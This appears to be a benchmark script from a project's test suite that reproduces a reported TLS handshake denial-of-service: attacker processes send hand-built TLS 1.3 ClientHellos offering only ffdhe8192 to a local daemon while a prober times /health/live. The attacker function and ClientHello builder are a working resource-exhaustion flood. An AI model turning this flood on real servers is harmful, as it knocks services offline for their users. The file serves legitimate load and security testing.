#!/usr/bin/env python3
"""tls_flood.py: /health/live latency while hostile clients loop TLS handshakes
that offer only a costly key exchange (issue 27, finding 1).

Each attacker sends a hand-built TLS 1.3 ClientHello whose only group is
ffdhe8192 (or --group) with a random key share, waits for the server's answer
(ServerHello or alert) and closes: the server does the expensive modular
exponentiations, the attacker none. Meanwhile a prober opens a fresh TLS
connection to GET /health/live every --interval seconds, as a load balancer
would, and reports p50/p99/max of the time to the full answer.

    bench/tls_flood.py --port 8443 [--attackers 8] [--probes 200] [--duration 60] [--group ffdhe8192]

Start the daemon first (any model; the tiny test model is enough). Only the
Python standard library is needed.
"""
import argparse
import multiprocessing as mp
import os
import socket
import ssl
import statistics
import struct
import time

GROUPS = {"ffdhe2048": (0x0100, 256), "ffdhe3072": (0x0101, 384), "ffdhe4096": (0x0102, 512),
          "ffdhe6144": (0x0103, 768), "ffdhe8192": (0x0104, 1024), "x25519": (0x001D, 32)}


def ext(kind, body):
    return struct.pack("!HH", kind, len(body)) + body


def client_hello(group):
    gid, klen = GROUPS[group]
    share = os.urandom(klen)
    if klen > 32:
        share = b"\x7f" + share[1:]  # below the group's prime, so it is not rejected as out of range
    exts = b"".join([
        ext(0x0000, struct.pack("!HBH", 12, 0, 9) + b"localhost"),           # server_name
        ext(0x002B, b"\x02\x03\x04"),                                           # supported_versions: TLS 1.3
        ext(0x000A, struct.pack("!HH", 2, gid)),                                # supported_groups
        ext(0x000D, struct.pack("!H", 8) + b"\x04\x03\x08\x04\x04\x01\x05\x03"),  # signature_algorithms
        ext(0x0033, struct.pack("!HHH", 4 + klen, gid, klen) + share),          # key_share
    ])
    body = (b"\x03\x03" + os.urandom(32) + b"\x20" + os.urandom(32) + struct.pack("!H", 6) +
            b"\x13\x01\x13\x02\x13\x03" + b"\x01\x00" + struct.pack("!H", len(exts)) + exts)
    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs


def attacker(port, group, stop):
    while not stop.is_set():
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=10)
            s.sendall(client_hello(group))
            s.recv(1)  # the server has done its key exchange (or refused)
            s.close()
        except OSError:
            time.sleep(0.01)


def probe(port, ctx):
    t0 = time.perf_counter()
    raw = socket.create_connection(("127.0.0.1", port), timeout=10)
    # As curl and load balancers do: without it the request waits behind the
    # unacknowledged TLS Finished for the server's delayed ACK (~40 ms on Linux),
    # and the probe measures its own stack, not the server.
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s = ctx.wrap_socket(raw, server_hostname="localhost")
    s.sendall(b"GET /health/live HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
    out = b""
    while True:
        d = s.recv(4096)
        if not d:
            break
        out += d
    s.close()
    if not out.startswith(b"HTTP/1.1 200"):
        raise RuntimeError("unexpected answer: %r" % out[:40])
    return (time.perf_counter() - t0) * 1000.0


def pct(xs, p):
    xs = sorted(xs)
    return xs[min(len(xs) - 1, int(round(p / 100.0 * (len(xs) - 1))))]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--attackers", type=int, default=8)
    ap.add_argument("--group", default="ffdhe8192", choices=sorted(GROUPS))
    ap.add_argument("--probes", type=int, default=200)
    ap.add_argument("--interval", type=float, default=0.05)
    ap.add_argument("--duration", type=float, default=60.0, help="stop probing after this many seconds")
    a = ap.parse_args()
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    stop = mp.Event()
    procs = [mp.Process(target=attacker, args=(a.port, a.group, stop), daemon=True) for _ in range(a.attackers)]
    for p in procs:
        p.start()
    time.sleep(1.0 if procs else 0)
    lat, errors = [], 0
    t_end = time.time() + a.duration
    for _ in range(a.probes):
        if time.time() > t_end:
            break
        try:
            lat.append(probe(a.port, ctx))
        except (OSError, RuntimeError) as e:
            errors += 1
            if errors <= 3:
                print("probe failed: %s" % e)
        time.sleep(a.interval)
    stop.set()
    for p in procs:
        p.join(2)
    if not lat:
        print("no probe succeeded (%d errors)" % errors)
        return 1
    print("attackers %d (%s), probes %d, errors (10 s timeouts) %d: /health/live p50 %.1f ms, p99 %.1f ms, max %.1f ms, mean %.1f ms"
          % (a.attackers, a.group, len(lat), errors, pct(lat, 50), pct(lat, 99), max(lat), statistics.mean(lat)))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
